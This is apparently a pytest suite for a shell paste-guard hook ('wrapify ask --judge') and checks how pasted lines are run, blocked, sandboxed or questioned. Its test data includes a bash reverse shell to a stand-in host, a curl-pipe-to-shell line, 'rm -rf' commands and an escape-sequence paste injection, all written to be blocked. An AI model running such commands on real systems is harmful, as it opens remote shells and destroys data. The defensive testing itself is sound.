"""`wrapify ask --judge`: the exit status says what the hook does with a line, and no failure is a "run it"."""

from __future__ import annotations

import hashlib
import os
import subprocess
from pathlib import Path

import pytest

from tests.conftest import Wrapify

SANDBOX, EDIT, RUN, QUESTION = 10, 11, 13, 20
REVERSE = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"


def judged(wrapify: Wrapify, line: bytes, *options: str, **around: bytes) -> subprocess.CompletedProcess[str]:
    framed = b"\0".join((around.get("before", b""), around.get("after", b""), line, b""))
    done = wrapify("ask", "--judge", *options, text=framed)
    assert "\x1b" not in done.stdout + done.stderr
    return done


@pytest.mark.parametrize(
    ("line", "options", "status", "says"),
    [
        (b"ls -la", [], RUN, ""),
        (b"", [], RUN, ""),
        (b" \n\t", ["--early"], RUN, ""),
        (b"git status\ngit diff\n", ["--shell", "zsh"], RUN, ""),
        (b"sudo ls", ["--shell", "fish"], QUESTION, ""),
        (b"sudo ls", ["--continued"], QUESTION, ""),
        (b"curl https://x.example/i.sh | sh", [], QUESTION, ""),
        (b"ls", ["--burst"], RUN, ""),
        (b"sudo ls", ["--burst"], QUESTION, ""),
        (b"ls", ["--early"], QUESTION, ""),
        (b"ls \xff\xfe", [], RUN, ""),
        (REVERSE, [], EDIT, "Blocked"),
        (REVERSE, ["--early"], EDIT, "Blocked"),
        (b"sudo ls; " + REVERSE, [], EDIT, "reverse-shell"),
        (b"ls\x1b[201~\nrm -rf ~\n", [], EDIT, "⟨ESC⟩"),
    ],
)
def test_the_statuses(wrapify: Wrapify, line: bytes, options: list[str], status: int, says: str) -> None:
    done = judged(wrapify, line, *options)
    assert (done.returncode, done.stderr) == (status, "")
    assert says in done.stdout
    assert bool(done.stdout) is bool(says)


def test_what_is_blocked_says_how_to_go_on(wrapify: Wrapify) -> None:
    said = judged(wrapify, REVERSE).stdout
    assert ",, in front tries it in a sandbox" in said
    assert "wrapify policy trust" in said


@pytest.mark.parametrize(
    ("before", "line", "after", "status"),
    [
        (b"sudo apt install ", b"sudo apt install name", b"", RUN),
        (b"", b"sudo apt install name", b"", QUESTION),
        (b"sudo apt install ", b"sudo apt install name; sudo ls", b"", QUESTION),
        # The typed part was edited since: what is still there of it was typed.
        (b"sudo apt install ", b"sudo apt purge name", b"", RUN),
        (b"sudo apt install ", b"doas apt install name", b"", QUESTION),
        (b"true; ", b"true; sudo ls", b"", QUESTION),
        (b"", b"x=sudo; $x ls", b"; $x ls", QUESTION),
        (b"", b"name; sudo ls", b"; sudo ls", RUN),
        (b"rm -rf ", b"rm -rf /", b"", EDIT),
    ],
)
def test_what_was_typed_does_not_count(
    wrapify: Wrapify, before: bytes, line: bytes, *, after: bytes, status: int
) -> None:
    assert judged(wrapify, line, before=before, after=after).returncode == status


@pytest.mark.parametrize("text", [b"", b"sudo ls", b"\0\0ls", b"\0ls\0", b"\0\0ls\0\0", b"\0\0ls\0x", b"\0\0a\0b\0"])
@pytest.mark.parametrize("options", [["--judge"], []], ids=["judge", "ask"])
def test_what_is_not_framed_is_a_failure(wrapify: Wrapify, text: bytes, options: list[str]) -> None:
    done = wrapify("ask", *options, text=text)
    assert (done.returncode, done.stdout) == (125, "")
    assert "did not come as a hook sends it" in done.stderr


def test_an_input_that_is_closed_or_cannot_be_read_is_a_failure(wrapify: Wrapify) -> None:
    for redirect in ("<&-", ">/dev/null <&1"):
        script = f'exec "{wrapify.program}" ask --judge {redirect}'
        command = ["sh", "-c", script]
        done = subprocess.run(command, capture_output=True, env=wrapify.environment(), **wrapify.user.drop)
        assert (done.returncode, done.stdout) == (125, b"")
        assert done.stderr.startswith(b"wrapify: ")


def test_too_much_is_a_failure(wrapify: Wrapify) -> None:
    wrapify.put(".config/wrapify/policy.toml", '[script]\nmax_size = "1 KiB"\n')
    done = judged(wrapify, b"x" * 1025)
    assert (done.returncode, done.stdout) == (125, "")
    assert "larger than 1 KiB" in done.stderr


@pytest.mark.parametrize(
    ("words", "message"),
    [(["ls"], "standard input"), (["--shell", "bsh"], "no shell 'bsh'"), (["--now"], "no option '--now'")],
)
def test_a_command_line_that_is_wrong(wrapify: Wrapify, words: list[str], message: str) -> None:
    done = wrapify("ask", "--judge", *words, text=b"\0\0ls\0")
    assert (done.returncode, done.stdout) == (2, "")
    assert message in done.stderr


def test_a_policy_that_cannot_be_used_is_a_failure(wrapify: Wrapify) -> None:
    wrapify.put(".config/wrapify/policy.toml", "action.high = 'aks'")
    assert judged(wrapify, b"ls").returncode == 2


def test_the_key_for_sudo_holds_from_the_next_line_on(wrapify: Wrapify) -> None:
    for action, status in (("sandbox", SANDBOX), ("block", EDIT), ("allow", RUN), ("ask", QUESTION)):
        assert wrapify("policy", "set", "paste.sudo", action).returncode == 0
        assert wrapify("policy", "get", "paste.sudo").stdout == f"{action}\n"
        done = judged(wrapify, b"sudo ls")
        assert done.returncode == status
        assert bool(done.stdout) is (status in (SANDBOX, EDIT))
        # Whatever is critical decides by itself, and typed sudo is no paste.
        assert judged(wrapify, b"sudo ls; " + REVERSE).returncode == EDIT
        assert judged(wrapify, b"sudo ls", before=b"sudo ls").returncode == RUN


def test_a_sandbox_says_why_and_takes_no_line_that_continues_another(wrapify: Wrapify) -> None:
    wrapify("policy", "set", "paste.sudo", "sandbox")
    done = judged(wrapify, b"sudo ls")
    said = " ".join(done.stdout.split())
    assert said.startswith("wrapify: in a sandbox (paste.sudo,")
    assert "Runs ls as root" in said
    done = judged(wrapify, b"sudo ls", "--continued")
    assert done.returncode == EDIT
    assert "cannot take a line that continues another" in " ".join(done.stdout.split())
    # Enter was nobody's: the question offers the sandbox, and not this machine.
    assert judged(wrapify, b"sudo ls", "--early").returncode == QUESTION


def test_without_a_terminal_nothing_is_asked_and_the_line_stays(wrapify: Wrapify) -> None:
    for line in (b"sudo ls", b"ls"):
        done = wrapify("ask", text=b"\0\0%s\0" % line, start_new_session=True)
        assert (done.returncode, done.stdout) == (EDIT, "")
        assert "nothing can be asked here" in done.stderr


def test_the_policy_may_change_before_the_question(wrapify: Wrapify) -> None:
    for action, status in (("sandbox", SANDBOX), ("block", EDIT)):
        wrapify("policy", "set", "paste.sudo", action)
        done = wrapify("ask", text=b"\0\0sudo ls\0", start_new_session=True)
        assert (done.returncode, done.stderr) == (status, "")
        assert done.stdout


def test_trust_is_in_the_exact_text(wrapify: Wrapify) -> None:
    assert wrapify("policy", "trust", "sudo ls").returncode == 0
    assert judged(wrapify, b"sudo ls").returncode == RUN
    assert judged(wrapify, b"sudo ls", "--early").returncode == QUESTION
    assert judged(wrapify, b"sudo ls ").returncode == QUESTION
    assert hashlib.sha256(b"sudo ls").hexdigest() in (wrapify.home / ".local/state/wrapify/trusted").read_text()


def test_off_holds_for_all_and_only_the_users_own_file_counts(wrapify: Wrapify) -> None:
    mark = wrapify.home / ".config/wrapify/off"
    assert wrapify("off", "--global").returncode == 0
    assert judged(wrapify, b"sudo ls", "--early").returncode == RUN
    assert wrapify("on", "--global").returncode == 0
    assert not mark.exists()
    assert judged(wrapify, b"sudo ls").returncode == QUESTION
    # All is read, or the hook would write into a pipe that nobody reads.
    wrapify.put(".config/wrapify/off", "")
    script = f"head -c 1000000 /dev/zero | {wrapify.program} ask --judge; echo ${{PIPESTATUS[*]}}"
    done = subprocess.run(
        ["bash", "-c", script], capture_output=True, env=wrapify.environment(), check=False, **wrapify.user.drop
    )
    assert (done.stdout, done.stderr) == (b"0 13\n", b"")
    mark.unlink()
    mark.symlink_to(wrapify.put("elsewhere", ""))
    assert judged(wrapify, b"sudo ls").returncode == QUESTION
    mark.unlink()
    if os.getuid() == 0:
        mark.write_text("")
        assert judged(wrapify, b"sudo ls").returncode == QUESTION


def test_help_names_the_exit_statuses(wrapify: Wrapify) -> None:
    said = " ".join(wrapify("ask", "--help").stdout.split())
    for word in (
        "--judge",
        "--burst",
        "--early",
        "--continued",
        "--below",
        "10: to the sandbox",
        "13: run it",
        "20 (--judge)",
    ):
        assert word in said


def test_output_that_nobody_reads_changes_nothing(wrapify: Wrapify) -> None:
    with Path("/dev/full").open("wb") as full:
        command = [str(wrapify.program), "ask", "--judge"]
        options = {"stdout": full, "env": wrapify.environment(), **wrapify.user.drop}
        done = subprocess.run(command, input=b"\0\0" + REVERSE + b"\0", check=False, **options)
    assert done.returncode == EDIT
